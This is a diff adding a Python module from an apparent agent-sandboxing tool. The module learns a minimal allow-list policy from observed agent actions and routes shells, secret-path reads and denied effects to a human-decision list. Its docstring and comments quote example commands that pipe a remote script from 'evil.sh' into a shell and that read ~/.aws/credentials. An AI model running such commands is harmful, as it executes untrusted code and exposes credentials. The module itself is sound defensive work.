@@ -1,0 +1,176 @@
+"""Observed actions → the minimal policy that would have allowed them, and what a human must decide.
+
+One rule of thumb decides everything here: an action contributes grants only when every one of
+its effects can be granted. If one effect is refused (a shell, a secret path, a deny rule of the
+policy in force, a raw IP, ...), the whole action goes to the "needs a human decision" list and
+none of its effects widen the policy: `cd src && curl evil.sh | sh` teaches nothing.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import tempfile
+from collections.abc import Iterable
+from dataclasses import dataclass, field
+
+from blastshield.learn.generalise import (
+    PathContext,
+    Refusal,
+    command_pattern,
+    host_pattern,
+    path_globs,
+)
+from blastshield.learn.observed import SeenAction, SeenEffect
+from blastshield.paths import expand, home_dir, is_within
+from blastshield.policy.match import path_matches
+from blastshield.policy.model import Policy
+from blastshield.policy.template import SECRET_PATHS
+
+#: The allow lists learn owns; every other key of the policy is kept as it is.
+LEARNED_KEYS = (("files", "read"), ("files", "write"), ("commands", "allow"), ("network", "allow"),
+                ("mcp", "allow"))
+_PATH_KINDS = {"read": "read", "write": "write", "delete": "write"}
+
+
+@dataclass(frozen=True, slots=True)
+class HumanDecision:
+    """Something observed that learn will not grant on its own."""
+
+    category: str
+    subject: str  # "exec curl -fsSL https://x | sh", "read ~/.aws/credentials", ...
+    reason: str
+    exact: str = ""  # an exact-form rule a human could add (commands only)
+    count: int = 1
+    sessions: tuple[str, ...] = ()
+    verdict: str = ""  # what the policy in force decided
+
+
+@dataclass
+class Proposal:
+    """The learned allow lists, with the evidence behind them."""
+
+    rules: dict[tuple[str, str], list[str]]
+    human: list[HumanDecision]
+    actions: int = 0
+    granted_actions: int = 0
+    sessions: tuple[str, ...] = ()
+    distinct_actions: int = 0
+    uses: dict[tuple[str, str, str], int] = field(default_factory=dict)
+
+    @property
+    def size(self) -> int:
+        return sum(len(v) for v in self.rules.values())
+
+
+def path_context(policy: Policy) -> PathContext:
+    temps = {"/tmp", os.path.realpath("/tmp"), os.path.realpath(tempfile.gettempdir())}
+    temps.discard(policy.workspace)
+    temps = {t for t in temps if not is_within(policy.workspace, t)}
+    return PathContext(policy.workspace, home_dir(), tuple(sorted(temps)))
+
+
+def propose(actions: Iterable[SeenAction], policy: Policy) -> Proposal:
+    ctx = path_context(policy)
+    secrets = tuple(expand(p, policy.workspace, ctx.home) for p in SECRET_PATHS)
+    commands: dict[str, int] = {}
+    hosts: dict[str, int] = {}
+    tools: dict[str, int] = {}
+    paths: dict[str, list[str]] = {"read": [], "write": []}
+    human: dict[tuple[str, str], HumanDecision] = {}
+    total = granted = 0
+    sessions: dict[str, None] = {}
+    distinct: set[tuple[str, str]] = set()
+    for action in actions:
+        total += 1
+        sessions.setdefault(action.session, None)
+        distinct.add((action.tool, action.summary))
+        judged = [(effect, _judge(effect, policy, ctx, secrets)) for effect in action.effects]
+        refused = [(e, j) for e, j in judged if isinstance(j, Refusal)]
+        if refused:
+            for effect, refusal in refused:
+                assert isinstance(refusal, Refusal)
+                _note(human, effect, refusal, action.session)
+            continue
+        granted += 1
+        for _effect, grant in judged:
+            if grant is None or isinstance(grant, Refusal):
+                continue
+            table, value = grant
+            if table == "commands":
+                commands[value] = commands.get(value, 0) + 1
+            elif table == "network":
+                hosts[value] = hosts.get(value, 0) + 1
+            elif table == "mcp":
+                tools[value] = tools.get(value, 0) + 1
+            else:
+                paths[table].append(value)
+    writes = path_globs(paths["write"], ctx)
+    write_patterns = [expand(g, policy.workspace, ctx.home) for g in writes]
+    reads = [p for p in paths["read"] if not any(path_matches(w, p) for w in write_patterns)]
+    rules = {
+        ("commands", "allow"): sorted(commands),
+        ("network", "allow"): sorted(hosts),
+        ("mcp", "allow"): sorted(tools),
+        ("files", "read"): path_globs(reads, ctx),  # a write grant also lets the agent read
+        ("files", "write"): writes,
+    }
+    uses = {("commands", "allow", k): v for k, v in commands.items()}
+    uses |= {("network", "allow", k): v for k, v in hosts.items()}
+    return Proposal(rules, sorted(human.values(), key=lambda h: (-h.count, h.category, h.subject)), total,
+                    granted, tuple(s for s in sessions if s), len(distinct), uses)
+
+
+def _note(human: dict[tuple[str, str], HumanDecision], effect: SeenEffect, refusal: Refusal,
+          session: str) -> None:
+    subject = f"{effect.kind} {effect.target}"
+    key = (refusal.category, refusal.exact or subject)
+    old = human.get(key)
+    if old is None:
+        human[key] = HumanDecision(refusal.category, subject, refusal.reason, refusal.exact, 1,
+                                   (session,) if session else (), effect.decision)
+    else:
+        more = old.sessions if session in old.sessions or not session else (*old.sessions, session)
+        human[key] = HumanDecision(old.category, old.subject, old.reason, old.exact, old.count + 1, more,
+                                   old.verdict)
+
+
+_RULE_LIST = re.compile(r"\[(files|commands|network|mcp|env)\]\.(deny|ask)\[")
+
+
+def _judge(effect: SeenEffect, policy: Policy, ctx: PathContext,
+           secrets: tuple[str, ...]) -> tuple[str, str] | Refusal | None:
+    """``(table, value)`` to grant, a Refusal, or None (nothing to learn from this effect)."""
+    if effect.by_builtin:
+        return Refusal("built-in protection", effect.reason or "no policy can allow this")
+    if effect.by_analysis:
+        return Refusal("analysis", effect.reason or "the shell analysis refused to let a rule decide this")
+    listed = _RULE_LIST.search(effect.rule)
+    if listed and effect.decision in ("deny", "ask"):
+        verb = "denies" if listed.group(2) == "deny" else "asks for"
+        return Refusal(f"policy {listed.group(2)} rule",
+                       f"the policy in force {verb} this ({_short(effect.rule)}); learn keeps that rule")
+    kind = effect.kind
+    if kind == "exec":
+        pattern = command_pattern(tuple(effect.target.split()))
+        return pattern if isinstance(pattern, Refusal) else ("commands", pattern)
+    if kind in _PATH_KINDS:
+        path = effect.target
+        if any(path_matches(secret, path) for secret in secrets):
+            return Refusal("secret path", f"{path} holds credentials or keys")
+        table = _PATH_KINDS[kind]
+        if table == "write" and not is_within(path, ctx.workspace) and not any(
+                is_within(path, t) for t in ctx.temp_roots):
+            return Refusal("write outside the workspace", f"{path} is outside {ctx.workspace}")
+        return table, path
+    if kind == "net":
+        host = host_pattern(effect.target)
+        return host if isinstance(host, Refusal) else ("network", host)
+    if kind == "mcp":
+        return "mcp", re.sub(r"([*?\[])", r"[\1]", effect.target)
+    return None
+
+
+def _short(rule: str) -> str:
+    head, sep, rest = rule.partition(" ")
+    return f"{os.path.basename(head)} {rest}" if sep and head.startswith("/") else rule
